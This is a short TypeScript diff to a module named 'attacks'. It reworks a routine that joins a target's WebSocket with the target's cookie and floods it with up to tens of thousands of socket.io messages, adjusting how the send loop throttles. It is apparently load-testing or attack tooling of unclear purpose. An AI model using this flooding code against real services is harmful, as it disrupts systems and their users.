@@ -141,12 +141,12 @@ export const attacks: Readonly<Record<string, Attack>> = {
     ]
     const socket = await join(target, target.cookie)
     socket?.send(`42${start}["add user","flood"]`)
-    const most = 25_000 * size
     let sent = 0
-    while (socket?.readyState === WebSocket.OPEN && sent < most) {
+    while (socket?.readyState === WebSocket.OPEN && sent < 25_000 * size) {
+      const packet = kinds[sent % kinds.length]!(sent++)
       // Each hundredth waits until it has left: what does not fit into the connection would pile up here.
-      for (let at = 0; at < 100; at++) socket.send(kinds[sent % 3]!(sent++))
-      await new Promise((resolve) => socket.send('', resolve))
+      if (sent % 100 > 0) socket.send(packet)
+      else await new Promise((resolve) => socket.send(packet, resolve))
     }
     await hangUp(socket)
     return sent
